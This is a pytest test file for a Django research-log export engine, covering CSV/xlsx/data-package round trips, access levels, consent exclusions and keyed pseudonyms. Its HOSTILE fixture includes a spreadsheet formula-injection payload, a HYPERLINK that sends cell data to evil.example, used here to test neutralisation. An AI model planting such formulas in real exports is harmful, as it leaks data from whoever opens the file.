"""Research export engine: round trips through the csv module, pandas and
openpyxl give back every field of every log (EXP-5), levels never hold what
they must not (EXP-1, AZ-7), rows stay within scope and consent (AZ-4), the
data package passes frictionless validation, pseudonyms are keyed (EXP-4)."""

import base64
import csv
import datetime as dt
import hashlib
import hmac
import io
import json
import zipfile
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import User
from django.db import connection

from core.formulas import DANGEROUS_FIRST, neutralise, unneutralise
from core.timeutils import local_instant
from exports import files, rows_copy
from exports.columns import LONG_COLUMNS
from exports.filters import ExportFilters
from exports.models import ExportLevel, ExportRight
from exports.preview import export_preview
from exports.pseudonyms import pseudonym
from exports.rights import export_level_for
from logs_app.models import InteractionLog, RoleFunction, Technique, Topic
from tests.factories import (
    AssignmentFactory,
    CohortFactory,
    InteractionLogFactory,
    MentorFactory,
    ParticipantFactory,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "@SUM(1)",
    "+1",
    "-1",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'already starts with a quote",
    'Line one\r\nline two\nline "three", with commas; and semicolons',
    "Ngā mihi — 你好 👋🏽 שלום, ça va? ½ ✓",
    "  spaces around  ",
]
UTC = dt.UTC


@pytest.fixture
def export_dir(settings, tmp_path):
    settings.PEERLOG_EXPORT_DIR = str(tmp_path / "exports")
    return tmp_path / "exports"


def _log(mentor, participant, day: dt.date, start: dt.time | None, **fields):
    tz = ZoneInfo(participant.site.time_zone)
    log = InteractionLogFactory(
        mentor=mentor,
        participant=participant,
        contact_date=day,
        start_time=start,
        occurred_at=local_instant(day, start, tz),
        **fields,
    )
    return log


@pytest.fixture
def data(site, other_site, mentor, participant, other_mentor, other_participant):
    """Logs at two sites (New York and Sydney), with hostile text, unicode,
    newlines, multi-selects, a DST day, and the cases that leave things out."""
    mentor.reflections_consent_at = dt.datetime(2026, 1, 10, tzinfo=UTC)
    mentor.save()
    other_mentor.reflections_consent_at = dt.datetime(2026, 1, 10, tzinfo=UTC)
    other_mentor.save()
    cohort = CohortFactory(site=site, name="=Spring 2026")
    participant.cohort = cohort
    participant.save()
    techniques = list(Technique.objects.order_by("code"))
    topics = list(Topic.objects.order_by("code"))
    roles = list(RoleFunction.objects.order_by("code"))
    logs = []
    for i, text in enumerate(HOSTILE):
        # 1 Nov 2026: the US leaves daylight time that night.
        day = dt.date(2026, 11, 1) + dt.timedelta(days=i)
        log = _log(
            mentor,
            participant,
            day,
            dt.time(1 + i, 30) if i != 3 else None,
            narrative=text,
            place=text,
            weekly_goal=text if i % 2 else "",
            reflection_feelings=text,
            reflection_concerns="" if i % 3 else text,
            concern=text if i % 3 == 1 else "",
            co_ppm=i * 3 if i % 2 else None,
            cigarettes_per_day=i,
            stage_of_change=InteractionLog.Stage.PREPARATION if i % 2 else "",
            quit_date=dt.date(2026, 12, 1) if i == 2 else None,
            nrt_in_use="yes" if i == 4 else "",
            safety_concern=i == 5,
            discuss_in_supervision=i == 6,
            status=InteractionLog.Status.REVIEWED
            if i == 7
            else InteractionLog.Status.SUBMITTED,
        )
        log.techniques.set(techniques[i % 4 : i % 4 + (i % 3) + 1])
        log.topics.set(topics[: i % 2 + 1] if i % 4 else [])
        log.role_functions.set(roles[i % 5 : i % 5 + 1])
        logs.append(log)
    sydney = [
        _log(
            other_mentor,
            other_participant,
            dt.date(2026, 4, 5),  # Sydney leaves daylight time that morning
            dt.time(2, 30),
            narrative="Sydney: a quiet walk by the harbour.",
            reflection_feelings="Sydney reflection",
        )
    ]
    sydney[0].techniques.set(techniques[:2])
    # Left out or held back:
    no_consent = ParticipantFactory(
        study_id="NYC-0900", site=site, has_research_consent=False
    )
    AssignmentFactory(mentor=mentor, participant=no_consent)
    excluded = _log(
        mentor, no_consent, dt.date(2026, 11, 3), dt.time(10), narrative="No consent"
    )
    voided = _log(
        mentor,
        participant,
        dt.date(2026, 11, 4),
        dt.time(10),
        is_voided=True,
        void_reason="Filed twice",
    )
    InteractionLogFactory(
        mentor=mentor,
        participant=participant,
        status=InteractionLog.Status.DRAFT,
        submitted_at=None,
        narrative="A draft is never exported",
    )
    shy = MentorFactory(sites=[site], supervisor=mentor.supervisor)  # no consent
    shy_participant = ParticipantFactory(study_id="NYC-0002", site=site)
    AssignmentFactory(mentor=shy, participant=shy_participant)
    withheld = _log(
        shy,
        shy_participant,
        dt.date(2026, 11, 2),
        dt.time(11),
        reflection_feelings="My own story, not for research",
    )
    return {
        "nyc": logs + [withheld],
        "sydney": sydney,
        "excluded": excluded,
        "voided": voided,
        "withheld": withheld,
        "shy": shy,
    }


def _text(fmt: str, user, level=ExportLevel.TEXT, **filters) -> bytes:
    out = io.BytesIO()
    result = files.export_write(
        out, user=user, filters=ExportFilters(**filters), level=level, fmt=fmt
    )
    body = out.getvalue()
    assert result.sha256 == hashlib.sha256(body).hexdigest()
    assert result.size == len(body)
    return body


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def _iso(value: dt.datetime | None, tz: str) -> str:
    if value is None:
        return ""
    return value.astimezone(ZoneInfo(tz)).replace(microsecond=0).isoformat()


def _codes(manager) -> list[str]:
    return sorted(manager.values_list("code", flat=True))


def expected(log: InteractionLog, level: str) -> dict[str, str]:
    """What the documented rules say the row of `log` holds, as CSV text (text
    fields un-neutralised)."""
    log = InteractionLog.objects.select_related(
        "participant__site", "participant__cohort", "mentor"
    ).get(pk=log.pk)
    site, consent = log.participant.site, log.mentor.reflections_consent_at is not None

    def flag(value) -> str:
        return "1" if value else "0"

    row = {
        "log_id": str(log.pk),
        "participant_code": pseudonym("P", log.participant_id),
        "mentor_code": pseudonym("M", log.mentor_id),
        "site_code": site.code,
        "site_time_zone": site.time_zone,
        "cohort": log.participant.cohort.name if log.participant.cohort else "",
        "participant_status": log.participant.status,
        "status": log.status,
        "is_voided": flag(log.is_voided),
        "contact_date": log.contact_date.isoformat(),
        "start_time": log.start_time.isoformat() if log.start_time else "",
        "occurred_at": _iso(log.occurred_at, site.time_zone),
        "iso_week": "{}-W{:02d}".format(*log.contact_date.isocalendar()[:2]),
        "duration_minutes": str(log.duration_minutes or ""),
        "mode": log.mode,
        "outcome": log.outcome,
        "techniques": ";".join(_codes(log.techniques)),
        "topics": ";".join(_codes(log.topics)),
        "role_functions": ";".join(_codes(log.role_functions)),
        "co_ppm": "" if log.co_ppm is None else str(log.co_ppm),
        "cigarettes_per_day": ""
        if log.cigarettes_per_day is None
        else str(log.cigarettes_per_day),
        "stage_of_change": log.stage_of_change,
        "quit_date": log.quit_date.isoformat() if log.quit_date else "",
        "nrt_in_use": log.nrt_in_use,
        "last_goal_outcome": log.last_goal_outcome,
        "has_weekly_goal": flag(log.weekly_goal),
        "discuss_in_supervision": flag(log.discuss_in_supervision),
        "safety_concern": flag(log.safety_concern),
        "reflections_consent": flag(consent),
        "has_reflection_feelings": flag(log.reflection_feelings) if consent else "",
        "has_reflection_concerns": flag(log.reflection_concerns) if consent else "",
        "has_concern": flag(log.concern) if consent else "",
        "submitted_at": _iso(log.submitted_at, site.time_zone),
        "reviewed_at": _iso(log.reviewed_at, site.time_zone),
    }
    for prefix, model, manager in (
        ("tech_", Technique, log.techniques),
        ("topic_", Topic, log.topics),
        ("role_", RoleFunction, log.role_functions),
    ):
        chosen = set(_codes(manager))
        for code in model.objects.values_list("code", flat=True):
            row[prefix + code] = flag(code in chosen)
    if level in (ExportLevel.TEXT, ExportLevel.FULL):
        row.update(
            place=log.place,
            weekly_goal=log.weekly_goal,
            narrative=log.narrative,
            reflection_feelings=log.reflection_feelings if consent else "",
            reflection_concerns=log.reflection_concerns if consent else "",
            concern=log.concern if consent else "",
            void_reason=log.void_reason,
        )
    if level == ExportLevel.FULL:
        row.update(
            participant_study_id=log.participant.study_id,
            participant_preferred_name=log.participant.preferred_name,
        )
    return row


FREE_TEXT = {
    "site_code",
    "site_time_zone",
    "cohort",
    "techniques",
    "topics",
    "role_functions",
    "place",
    "weekly_goal",
    "narrative",
    "reflection_feelings",
    "reflection_concerns",
    "concern",
    "void_reason",
    "participant_study_id",
    "participant_preferred_name",
}


def assert_rows_match(
    rows: list[dict[str, str]], logs, level: str, *, xlsx: bool = False
) -> None:
    by_id = {row["log_id"]: row for row in rows}
    assert len(by_id) == len(rows) == len(logs)
    for log in logs:
        got = by_id[str(log.pk)]
        want = expected(log, level)
        assert list(got) == list(want) or set(got) == set(want)
        for name, value in want.items():
            cell = got[name]
            if name in FREE_TEXT:
                if xlsx:  # a workbook's XML keeps line breaks as LF only
                    value = value.replace("\r\n", "\n").replace("\r", "\n")
                if value[:1] in DANGEROUS_FIRST:
                    assert cell.startswith("'"), (name, cell)  # neutralised
                cell = unneutralise(cell)
            assert cell == value, (log.pk, name, cell, value)


@pytest.fixture
def staff_with(staff):
    def grant(level: str):
        ExportRight.objects.update_or_create(
            user=staff, defaults={"level": level, "granted_at": dt.datetime.now(UTC)}
        )
        return staff

    return grant


# --- round trips ----------------------------------------------------------------------
def test_csv_round_trip_gives_back_every_field(data, admin_user):
    body = _text("csv", admin_user, ExportLevel.FULL)

    assert body.endswith(b"\r\n")
    assert body.startswith(b"log_id,participant_code,mentor_code,")
    body.decode("utf-8")  # valid UTF-8, no BOM
    assert not body.startswith(b"\xef\xbb\xbf")
    rows = _rows(body)
    assert_rows_match(rows, data["nyc"] + data["sydney"], ExportLevel.FULL)
    # Ordered by log_id, so the same request gives the same file.
    assert [int(r["log_id"]) for r in rows] == sorted(int(r["log_id"]) for r in rows)


def test_csv_lines_end_in_crlf_and_text_keeps_its_own_line_breaks(data, admin_user):
    body = _text("csv", admin_user)
    # Every record ends with CRLF; the narrative's own LF and CRLF are kept.
    assert b'line "three"' not in body  # quotes are doubled inside quoted cells
    assert b'Line one\r\nline two\nline ""three"", with commas' in body
    assert body.count(b"\n") > len(data["nyc"]) + len(data["sydney"])


def test_times_are_site_local_with_offsets_across_dst(data, admin_user):
    rows = {int(r["log_id"]): r for r in _rows(_text("csv", admin_user))}
    first = rows[data["nyc"][0].pk]  # 1 Nov 2026, 01:30 New York: still EDT
    assert first["occurred_at"] == "2026-11-01T01:30:00-04:00"
    assert first["iso_week"] == "2026-W44"
    second = rows[data["nyc"][1].pk]  # 2 Nov, 02:30: EST
    assert second["occurred_at"] == "2026-11-02T02:30:00-05:00"
    sydney = rows[data["sydney"][0].pk]
    assert sydney["occurred_at"] == "2026-04-05T02:30:00+11:00"
    assert sydney["site_time_zone"] == "Australia/Sydney"
    assert first["submitted_at"] == "2026-11-16T15:00:00-05:00"


def test_pandas_reads_the_same_values(data, admin_user):
    pd = pytest.importorskip("pandas")
    body = _text("csv", admin_user, ExportLevel.FULL)
    frame = pd.read_csv(io.BytesIO(body), dtype=str, keep_default_na=False)
    assert_rows_match(frame.to_dict("records"), data["nyc"] + data["sydney"], "full")
    # With type inference, dates and flags come out as analysts expect.
    typed = pd.read_csv(io.BytesIO(body), parse_dates=["contact_date"])
    assert str(typed["contact_date"].dtype).startswith("datetime64")
    assert set(typed["safety_concern"]) <= {0, 1}


def test_xlsx_holds_the_same_values_with_real_dates(data, admin_user):
    from openpyxl import load_workbook

    body = _text("xlsx", admin_user, ExportLevel.FULL)
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["logs", "codebook", "about"]
    sheet = book["logs"]
    header = [c.value for c in sheet[1]]
    logs = {log.pk: log for log in data["nyc"] + data["sydney"]}
    rows = []
    for cells in sheet.iter_rows(min_row=2):
        values = dict(zip(header, cells, strict=True))
        log = logs[values["log_id"].value]
        assert values["contact_date"].is_date
        assert values["contact_date"].value.date() == log.contact_date
        if log.start_time:
            assert values["start_time"].value == log.start_time
        text = {}
        for name, cell in values.items():
            value = cell.value
            if isinstance(value, dt.datetime):
                value = value.date().isoformat()
            elif isinstance(value, dt.time):
                value = value.isoformat()
            text[name] = "" if value is None else str(value)
        rows.append(text)
    assert_rows_match(rows, list(logs.values()), ExportLevel.FULL, xlsx=True)
    codebook = [row[0].value for row in book["codebook"].iter_rows(min_row=2)]
    assert codebook == header


def test_long_csv_has_one_row_per_log_and_option(data, admin_user):
    rows = _rows(_text("long", admin_user))
    assert list(rows[0]) == LONG_COLUMNS
    want = set()
    for log in data["nyc"] + data["sydney"]:
        for key, manager in (
            ("technique", log.techniques),
            ("topic", log.topics),
            ("role_function", log.role_functions),
        ):
            for code in _codes(manager):
                want.add((str(log.pk), key, code, log.contact_date.isoformat()))
    got = {
        (r["log_id"], r["option_list"], r["option_code"], r["contact_date"])
        for r in rows
    }
    assert got == want
    assert len(rows) == len(want)


def test_data_package_passes_frictionless_validation(data, admin_user, tmp_path):
    frictionless = pytest.importorskip("frictionless")
    body = _text("package", admin_user, ExportLevel.FULL)
    archive = zipfile.ZipFile(io.BytesIO(body))
    assert sorted(archive.namelist()) == [
        "codebook.md",
        "datapackage.json",
        "log_options.csv",
        "logs.csv",
        "options.csv",
    ]
    archive.extractall(tmp_path)

    report = frictionless.validate(str(tmp_path / "datapackage.json"))

    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    descriptor = json.loads(archive.read("datapackage.json"))
    logs = descriptor["resources"][0]["schema"]
    assert logs["primaryKey"] == ["log_id"]
    mode = next(f for f in logs["fields"] if f["name"] == "mode")
    assert mode["constraints"]["enum"] == ["in_person", "phone", "video", "text"]
    options = descriptor["resources"][1]["schema"]["foreignKeys"]
    assert {fk["reference"]["resource"] for fk in options} == {"logs", "options"}
    codebook = archive.read("codebook.md").decode()
    for name in [f["name"] for f in logs["fields"]]:
        assert f"`{name}`" in codebook
    assert "no_participant_consent" in codebook
    assert_rows_match(
        _rows(archive.read("logs.csv")), data["nyc"] + data["sydney"], "full"
    )


def test_frictionless_catches_a_broken_package(data, admin_user, tmp_path):
    frictionless = pytest.importorskip("frictionless")
    archive = zipfile.ZipFile(io.BytesIO(_text("package", admin_user)))
    archive.extractall(tmp_path)
    logs = (tmp_path / "logs.csv").read_bytes()
    (tmp_path / "logs.csv").write_bytes(logs.replace(b",in_person,", b",teleport,", 1))
    assert not frictionless.validate(str(tmp_path / "datapackage.json")).valid


def test_same_request_gives_the_same_bytes(data, admin_user):
    for fmt in ("csv", "long", "package"):
        assert _text(fmt, admin_user) == _text(fmt, admin_user)


# --- levels (EXP-1, AZ-7) -------------------------------------------------------------
NARRATIVE_COLUMNS = {
    "place",
    "weekly_goal",
    "narrative",
    "reflection_feelings",
    "reflection_concerns",
    "concern",
    "void_reason",
}


def test_coded_level_holds_no_text_and_no_identities(data, admin_user):
    body = _text("csv", admin_user, ExportLevel.CODED)
    rows = _rows(body)
    assert not set(rows[0]) & (NARRATIVE_COLUMNS | {"participant_study_id"})
    assert "participant_preferred_name" not in rows[0]
    text = body.decode().split("\r\n", 1)[1]  # the rows, without the header
    for needle in ("HYPERLINK", "Ngā mihi", "harbour", "Jay", "NYC-0001"):
        assert needle not in text
    for user in User.objects.all():  # no usernames, names or e-mail addresses
        for value in (user.username, user.email, user.first_name):
            assert not value or f",{value}," not in text
    assert "@example.org" not in text
    assert_rows_match(rows, data["nyc"] + data["sydney"], ExportLevel.CODED)


def test_text_level_has_narratives_but_no_preferred_names(data, admin_user):
    body = _text("package", admin_user, ExportLevel.TEXT)
    assert b"Jay" not in zipfile.ZipFile(io.BytesIO(body)).read("logs.csv")
    rows = _rows(zipfile.ZipFile(io.BytesIO(body)).read("logs.csv"))
    assert set(rows[0]) >= NARRATIVE_COLUMNS
    assert "participant_preferred_name" not in rows[0]


def test_full_level_adds_preferred_names(data, admin_user):
    rows = _rows(_text("csv", admin_user, ExportLevel.FULL))
    assert "Jay" in {r["participant_preferred_name"] for r in rows}


def test_full_right_is_capped_for_research_staff(staff_with):
    staff = staff_with(ExportLevel.FULL)
    assert export_level_for(staff) == ExportLevel.TEXT


@pytest.mark.parametrize(
    ("level", "granted"),
    [
        (None, ExportLevel.NONE),
        (ExportLevel.CODED, ExportLevel.CODED),
        (ExportLevel.TEXT, ExportLevel.TEXT),
    ],
)
def test_research_staff_export_level_comes_from_their_right(staff, level, granted):
    if level:
        ExportRight.objects.create(
            user=staff, level=level, granted_at=dt.datetime.now(UTC)
        )
    assert export_level_for(staff) == granted


def test_mentors_and_supervisors_have_no_export_level(mentor, supervisor):
    ExportRight.objects.create(
        user=supervisor, level=ExportLevel.TEXT, granted_at=dt.datetime.now(UTC)
    )
    assert export_level_for(mentor.user) == ExportLevel.NONE
    assert export_level_for(supervisor) == ExportLevel.NONE


# --- scope and consent (AZ-4) ---------------------------------------------------------
def test_rows_are_limited_to_the_users_sites(data, staff_with):
    staff = staff_with(ExportLevel.TEXT)
    body = _text("csv", staff)
    rows = _rows(body)
    assert {r["site_code"] for r in rows} == {"nyc"}
    assert_rows_match(rows, data["nyc"], ExportLevel.TEXT)
    assert b"Sydney" not in body
    long_rows = _rows(_text("long", staff))
    assert {r["site_code"] for r in long_rows} == {"nyc"}


def test_filters_cannot_widen_scope(data, staff_with, other_site):
    staff = staff_with(ExportLevel.CODED)
    rows = _rows(_text("csv", staff, ExportLevel.CODED, sites=(other_site.pk,)))
    assert rows == []


def test_filters_narrow_the_rows(data, admin_user, site, mentor):
    rows = _rows(
        _text(
            "csv",
            admin_user,
            since=dt.date(2026, 11, 2),
            until=dt.date(2026, 11, 4),
            sites=(site.pk,),
            mentors=(mentor.pk,),
            statuses=("submitted",),
        )
    )
    assert {r["contact_date"] for r in rows} == {
        "2026-11-02",
        "2026-11-03",
        "2026-11-04",
    }
    assert {r["mentor_code"] for r in rows} == {pseudonym("M", mentor.pk)}


def test_consent_exclusions_are_counted_and_said(data, admin_user, site):
    preview = export_preview(
        user=admin_user, filters=ExportFilters(), level=ExportLevel.TEXT
    )
    assert preview.rows == len(data["nyc"]) + len(data["sydney"])
    assert preview.excluded == {
        "no_participant_consent": 1,
        "voided": 1,
        "reflections_withheld": 1,
    }
    rows = {int(r["log_id"]): r for r in _rows(_text("csv", admin_user))}
    assert data["excluded"].pk not in rows
    assert data["voided"].pk not in rows
    withheld = rows[data["withheld"].pk]
    assert withheld["reflection_feelings"] == ""
    assert withheld["reflections_consent"] == "0"
    assert withheld["has_reflection_feelings"] == ""


def test_voided_logs_only_when_asked_for(data, admin_user):
    rows = _rows(_text("csv", admin_user, include_voided=True))
    voided = [r for r in rows if r["log_id"] == str(data["voided"].pk)]
    assert voided[0]["is_voided"] == "1"
    assert voided[0]["void_reason"] == "Filed twice"
    preview = export_preview(
        user=admin_user,
        filters=ExportFilters(include_voided=True),
        level=ExportLevel.CODED,
    )
    assert preview.excluded == {"no_participant_consent": 1}


def test_user_without_scope_exports_nothing(data, research_without_site):
    ExportRight.objects.create(
        user=research_without_site,
        level=ExportLevel.TEXT,
        granted_at=dt.datetime.now(UTC),
    )
    body = _text("csv", research_without_site)
    assert body.count(b"\r\n") == 1  # the header only


@pytest.fixture
def research_without_site(db):
    from core.roles import Role
    from tests.factories import UserFactory

    return UserFactory(username="research_without_site", roles=[Role.RESEARCH])


# --- pseudonyms (EXP-4) ---------------------------------------------------------------
def test_pseudonyms_are_keyed_and_stable(settings, mentor):
    code = pseudonym("M", mentor.pk)
    assert code == pseudonym("M", mentor.pk)
    assert len(code) == 14 and code.startswith("M-")
    assert code[2:].lower() not in hashlib.sha256(str(mentor.pk).encode()).hexdigest()
    settings.PEERLOG_EXPORT_KEY = "another-secret"
    assert pseudonym("M", mentor.pk) != code
    assert mentor.user.username not in code


def test_pseudonyms_keep_their_value_across_releases(settings):
    """Codes already in researchers' files must not change: a pseudonym is
    the first 12 base32 characters of HMAC-SHA-256(key, "kind:id"), pinned
    here for a fixed key (the encoder only reads the bytes it needs)."""
    settings.PEERLOG_EXPORT_KEY = "a-fixed-key-for-this-test"
    key = settings.PEERLOG_EXPORT_KEY.encode()
    for kind, pk in [
        ("P", 1),
        ("M", 1),
        ("P", 987_654_321),
        *(("P", n) for n in range(2, 300)),
    ]:
        digest = hmac.new(key, f"{kind}:{pk}".encode(), hashlib.sha256).digest()
        assert pseudonym(kind, pk) == f"{kind}-{base64.b32encode(digest).decode()[:12]}"
    assert pseudonym("P", 1) == "P-SWLEY55DRAJB"


def test_copy_arrays_refuse_an_element_that_would_need_quoting():
    """The COPY statements pass ids and codes as array text unquoted."""
    assert rows_copy._array([3, 1, 2]) == "{3,1,2}"
    assert rows_copy._array(["P-ABCDEFGHIJ23"]) == "{P-ABCDEFGHIJ23}"
    for bad in (["a,b"], ['P-"x'], ["P-A B"], ["{1}"], ["p-lower"]):
        with pytest.raises(ValueError):
            rows_copy._array(bad)


def test_neutralise_round_trip():
    for text in HOSTILE + ["", "plain", "'", "''x", "\0nul"]:
        cell = neutralise(text)
        assert unneutralise(cell) == text
        assert cell[:1] not in set("=+-@\t\r\0") or cell == ""


# --- PostgreSQL: the COPY path writes what the Python path writes ---------------------
@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the COPY path needs PostgreSQL"
)
@pytest.mark.parametrize("fmt", ["csv", "long"])
@pytest.mark.parametrize("statements", ["one by ids", "id ranges"])
def test_copy_path_equals_python_path(fmt, statements, data, admin_user, monkeypatch):
    if statements == "id ranges":  # what a large export does: 3-id ranges here
        monkeypatch.setattr(rows_copy, "SMALL_EXPORT", 0)
        monkeypatch.setattr(rows_copy, "COPY_CHUNK_IDS", 3)
    fast = _text(fmt, admin_user, ExportLevel.FULL)
    monkeypatch.setattr(rows_copy, "use_copy", lambda sets: False)
    slow = _text(fmt, admin_user, ExportLevel.FULL)
    assert fast == slow


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the COPY path needs PostgreSQL"
)
def test_an_option_list_with_no_options_yet_exports(data, admin_user, monkeypatch):
    """Found in this session's review (issue 16): a list without options (a
    new program before its techniques are entered) made the code-list column
    `concat_ws(';', )`, a syntax error, in the COPY statement and in the read
    API's JSON page."""
    Technique.objects.all().delete()
    fast = _text("csv", admin_user, ExportLevel.FULL)
    monkeypatch.setattr(rows_copy, "use_copy", lambda sets: False)
    assert fast == _text("csv", admin_user, ExportLevel.FULL)
    assert b"techniques" in fast.splitlines()[0]
